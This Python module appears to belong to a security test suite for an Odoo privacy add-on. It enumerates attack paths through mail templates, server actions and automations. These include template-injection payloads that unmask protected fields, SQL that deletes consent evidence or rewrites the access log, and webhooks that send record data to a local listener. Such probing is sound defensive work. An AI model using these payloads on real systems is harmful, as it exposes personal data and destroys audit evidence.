"""Ways of those who may write templates or automate."""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

from attack_ways import P, way

from dev.lib import waiting

# ----------------------------------------------------------------------
# Templates
# ----------------------------------------------------------------------


@way("preview of a mail template")
def preview(a):
    vals = {"mail_template_id": a.template, "resource_ref": f"{P},{a.ann}"}
    return a(
        "mail.template.preview",
        "web_save",
        [],
        vals=vals,
        specification={"subject": {}, "body_html": {}},
    )


@way("mail of a template")
def template_mail(a):
    sent = a("mail.template", "send_mail", [a.template], res_id=a.ann)
    if sent.kind != "ok":
        return sent
    message = {"domain": [["res_id", "=", a.ann]], "fields": ["subject", "body"]}
    return a("mail.message", "search_read", **message)


@way("composer with a template")
def composer(a):
    vals = {"model": P, "res_ids": str([a.ann]), "template_id": a.template}
    made = a("mail.compose.message", "create", vals_list=[vals])
    if made.kind != "ok":
        return made
    fields = ["subject", "body"]
    return a("mail.compose.message", "read", made.value, fields=fields)


@way("template with code")
def template_code(a):
    """It switches masks off, if it may be written."""
    body = "{{ object.env.cr.cache.clear() or object.sudo().ref }}"
    vals = {"name": "x", "model_id": a.partner_model, "subject": body}
    return a("mail.template", "create", vals_list=[vals])


@way("mass mail with code")
def composer_code(a):
    body = "{{ object.env.cr.cache.clear() or object.sudo().ref }}"
    vals = {"model": P, "res_ids": str([a.ann]), "composition_mode": "mass_mail"}
    vals.update(subject=body, body="<p>x</p>", force_send=False)
    made = a("mail.compose.message", "create", vals_list=[vals])
    if made.kind != "ok":
        return made
    sent = a("mail.compose.message", "action_send_mail", made.value)
    if sent.kind != "ok":
        return sent
    fields = ["subject", "mail_message_id"]
    newest = {"order": "id desc", "limit": 1}
    mails = a("mail.mail", "search_read", domain=[], fields=fields, **newest)
    # what code lets out stays where it is put
    ids = [mail["mail_message_id"][0] for mail in mails.value]
    a("mail.message", "unlink", ids)
    return mails


@way("template that formats a mask")
def template_format(a):
    """``str.format`` reaches attributes that templates may not name."""
    body = "{{ '{0.value}{0.__privacy_value__}'.format(object.ref) }}"
    vals = {"name": "x", "model_id": a.partner_model, "subject": body}
    made = a("mail.template", "create", vals_list=[vals])
    if made.kind != "ok":
        return made
    template = made.value[0] if isinstance(made.value, list) else made.value
    vals = {"mail_template_id": template, "resource_ref": f"{P},{a.ann}"}
    return a(
        "mail.template.preview",
        "web_save",
        [],
        vals=vals,
        specification={"subject": {}, "error_msg": {}},
    )


# ----------------------------------------------------------------------
# Server actions and automation
# ----------------------------------------------------------------------


def _run(a, contact=None, **vals):
    name = f"Action {a.number()}"
    vals = {"name": name, "model_id": a.partner_model, **vals}
    made = a("ir.actions.server", "create", vals_list=[vals])
    if made.kind != "ok":
        return made
    contact = contact or a.ann
    context = {"active_model": P, "active_id": contact, "active_ids": [contact]}
    return a("ir.actions.server", "run", made.value, context=context)


@way("server action that writes what it reads")
def action_write(a):
    done = _run(
        a,
        contact=a.vic,
        state="object_write",
        update_path="comment",
        evaluation_type="equation",
        value="str(record.x_card)",
    )
    return done if done.kind != "ok" else a(P, "read", [a.vic], fields=["comment"])


@way("server action on a locked field")
def action_locked(a):
    vals = {"state": "object_write", "update_path": "zip", "value": "9999"}
    return _run(a, contact=a.lia, **vals)


@way("server action with code")
def action_code(a):
    return _run(a, state="code", code="action = {'value': record.sudo().ref}")


@way("server action with code without sudo")
def action_code_masked(a):
    return _run(a, state="code", code="action = {'value': str(record.ref)}")


@way("server action with code against evidence")
def action_code_evidence(a):
    code = "env['consent.event'].sudo().search([], limit=1).write({'res_id': 1})"
    return _run(a, state="code", code=code)


@way("server action with SQL against evidence")
def action_sql_evidence(a):
    return _run(a, state="code", code="env.cr.execute('DELETE FROM consent_event')")


@way("server action with SQL against the log")
def action_sql_log(a):
    code = "env.cr.execute('UPDATE privacy_access_log SET user_id = 1')"
    return _run(a, state="code", code=code)


@way("server action with a webhook")
def action_webhook(a):
    with Listener() as listener:
        sent = _run(
            a,
            state="webhook",
            webhook_url=listener.url,
            webhook_field_ids=[[6, 0, a.hook_fields]],
        )
    return listener.given_to(sent)


@way("automation with a webhook")
def automation_webhook(a):
    with Listener() as listener:
        hook = {
            "name": "hook",
            "model_id": a.partner_model,
            "state": "webhook",
            "webhook_url": listener.url,
            "webhook_field_ids": [[6, 0, a.hook_fields]],
        }
        vals = {"name": "auto", "model_id": a.partner_model, "trigger": "on_write"}
        vals["action_server_ids"] = [[0, 0, hook]]
        made = a("base.automation", "create", vals_list=[vals])
        if made.kind != "ok":
            return made
        written = a(P, "write", [a.vic], vals={"color": a.number()})
        a("base.automation", "unlink", made.value)
    return listener.given_to(written)


@way("automation on a locked field")
def automation_locked(a):
    change = {
        "name": "change",
        "model_id": a.partner_model,
        "state": "object_write",
        "update_path": "zip",
        "value": "9999",
    }
    vals = {"name": "auto", "model_id": a.partner_model, "trigger": "on_write"}
    vals["action_server_ids"] = [[0, 0, change]]
    made = a("base.automation", "create", vals_list=[vals])
    if made.kind != "ok":
        return made
    written = a(P, "write", [a.lia], vals={"color": a.number()})
    a("base.automation", "unlink", made.value)
    return written


class Listener:
    """Another system, which keeps what it is sent."""

    def __enter__(self):
        sent = self.sent = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                sent.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()

    def given_to(self, answer):
        """:return: the answer, with what was sent as a part of it"""
        if answer.kind == "ok":
            # Odoo waits a second for who is called
            waiting.until(lambda: self.sent, "the hook is called")
        answer.raw += b"".join(self.sent)
        return answer
